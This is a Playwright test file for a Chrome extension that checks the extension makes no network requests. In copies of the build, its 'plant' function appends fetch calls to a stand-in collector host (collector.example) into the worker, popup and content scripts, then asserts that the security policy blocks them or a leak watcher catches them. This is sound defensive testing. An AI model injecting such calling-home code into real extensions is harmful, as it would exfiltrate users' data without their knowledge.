import { appendFile, cp, mkdtemp, readFile, rm, writeFile } from 'node:fs/promises';
import { tmpdir } from 'node:os';
import { join } from 'node:path';
import { type BrowserContext, expect, test } from '@playwright/test';
import { sections } from '@/components/app/sections';
import { ensureChromium } from '../../scripts/browsers/install-chromium.mjs';
import { CHROME_BUILD } from '../../scripts/project.mjs';
import { findByRole, pressButton } from './browser/closed-shadow.mjs';
import { installExtension, launchBrowser } from './browser/launch-extension.mjs';
import { watchForLeaks } from './browser/leaks';
import { entryOf } from './browser/managed-build';
import { readNetLog } from './browser/net-log.mjs';
import { playGithub } from './pages/sample-sites.mjs';

// Every other test runs where no host resolves and fails by what the same two see: the recorder of each test, and the
// browser's own log of the network, which is read when a browser ends. Here both are shown to see, and the policy to block.
const THIEF = 'https://collector.example/take';
const PLAYED = 'https://github.com/planted';
const VIEWS = ['log', 'inbox', 'check-in'];
const PULL = { generation: 'react', number: 7 } as const;

type Who = 'worker' | 'popup' | 'content';
const call = (address: string) => `globalThis.stolen = fetch('${address}').then(() => 'answered', () => 'failed');\n`;

test('no-network: every surface is used and nothing is asked for; a fetch planted in worker, popup and content script is caught', async () => {
  test.setTimeout(90_000);
  const folder = await mkdtemp(join(tmpdir(), 'winnow-network-'));
  const netLog = join(folder, 'network.json');
  const file = await ensureChromium();
  if (!file) throw new Error('no Chromium to test with');
  const context = await launchBrowser({ file, profile: join(folder, 'profile'), netLog });
  const github = await playGithub(context);
  const pull = github.addPullRequest(PULL);
  const leaks = watchForLeaks({ context, played: new Set(['github.com']) });
  const caught = async (expected: string[]) => {
    await expect.poll(() => [...new Set(leaks.seen)].sort()).toEqual([...expected].sort());
    leaks.seen.length = 0;
  };
  try {
    const surfaces = await openAll(context, await build(folder, 'honest'), pull);
    await caught([]);
    for (const hasPolicy of [true, false]) {
      const name = hasPolicy ? 'guarded' : 'bare';
      const violated = await steal(context, await plant(folder, name, hasPolicy), pull, leaks.ready);
      expect(violated, `the popup of the ${name} build`).toBe(hasPolicy ? 'connect-src' : null);
      // Neither our policy nor the page's holds for a content script: what it asks is seen all the same. What the policy
      // blocks never becomes a request.
      const asking: Who[] = hasPolicy ? ['content'] : ['worker', 'popup', 'content'];
      await caught([
        ...asking.map((who) => `GET ${toThief(name, who)}`),
        `GET ${PLAYED}?${name} without a press`,
        `GET ${toThief(name, 'content')} without a press`,
      ]);
    }
    console.log(`no-network: ${surfaces} surfaces asked for nothing; of 8 planted fetches 2 were blocked and 6 caught`);
  } finally {
    await leaks.stop();
    await context.close();
  }
  const asked = (await readNetLog(netLog)).map(({ url }) => url);
  await rm(folder, { recursive: true, force: true, maxRetries: 3 });
  console.log(`no-network: by the browser’s own log an extension asked for ${asked.join(' and ') || 'nothing'}`);
  expect(asked).toEqual([toThief('bare', 'popup'), toThief('bare', 'worker')]);
});

function toThief(name: string, who: Who): string {
  return `${THIEF}?${name}-${who}`;
}

/** A copy of the build, with an id of its own. */
async function build(folder: string, name: string): Promise<string> {
  const copy = join(folder, name);
  await cp(CHROME_BUILD, copy, { recursive: true });
  return copy;
}

/** One that calls home from everywhere, and from the content script asks the page's own site too. */
async function plant(folder: string, name: string, hasPolicy: boolean): Promise<string> {
  const copy = await build(folder, name);
  await appendFile(join(copy, 'background.js'), `\n;${call(toThief(name, 'worker'))}`);
  await appendFile(join(copy, await entryOf(join(copy, 'popup.html'))), `\n;${call(toThief(name, 'popup'))}`);
  await appendFile(join(copy, 'page-button.js'), `\n;${call(toThief(name, 'content'))}${call(`${PLAYED}?${name}`)}`);
  if (!hasPolicy) {
    const manifest = join(copy, 'manifest.json');
    const { content_security_policy: _, ...rest } = JSON.parse(await readFile(manifest, 'utf8'));
    await writeFile(manifest, JSON.stringify(rest));
  }
  return copy;
}

/** Opens every section of the app and every view of the popup, and saves a pull request. How many there were. */
async function openAll(context: BrowserContext, folder: string, pull: string): Promise<number> {
  const { extensionId, uninstall } = await installExtension(context, folder);
  const page = await context.newPage();
  for (const { path, title } of sections) {
    await page.goto(`chrome-extension://${extensionId}/options.html#${path}`);
    await expect(page).toHaveTitle(new RegExp(title()));
  }
  for (const view of VIEWS) {
    await page.goto(`chrome-extension://${extensionId}/popup.html#/${view}`);
    await page.getByRole('main').waitFor();
  }
  await page.goto(pull);
  await pressButton(page, 'Save as win');
  await findByRole(page, 'button', 'Saved');
  await page.close();
  await uninstall();
  return sections.length + VIEWS.length + 1;
}

/** Lets everything that is planted in a build run to its end; what the policy said of it in the popup. */
async function steal(
  context: BrowserContext,
  folder: string,
  pull: string,
  watched: () => Promise<unknown>,
): Promise<string | null> {
  const { extensionId, worker, uninstall } = await installExtension(context, folder);
  const stolen = () => (globalThis as { stolen?: Promise<string> }).stolen;
  expect(await worker.evaluate(stolen)).toBe('failed');
  const page = await context.newPage();
  await watched();
  await page.goto(pull);
  await findByRole(page, 'button', 'Save as win');
  await page.close();
  const popup = await context.newPage();
  await popup.addInitScript(() => {
    document.addEventListener('securitypolicyviolation', ({ effectiveDirective }) => {
      Object.assign(globalThis, { violated: effectiveDirective });
    });
  });
  await popup.goto(`chrome-extension://${extensionId}/popup.html`);
  await expect.poll(() => popup.evaluate(stolen)).toBe('failed');
  // The report comes after the refusal.
  await popup.waitForTimeout(50);
  const violated = await popup.evaluate(() => (globalThis as { violated?: string }).violated ?? null);
  await popup.close();
  await uninstall();
  return violated;
}
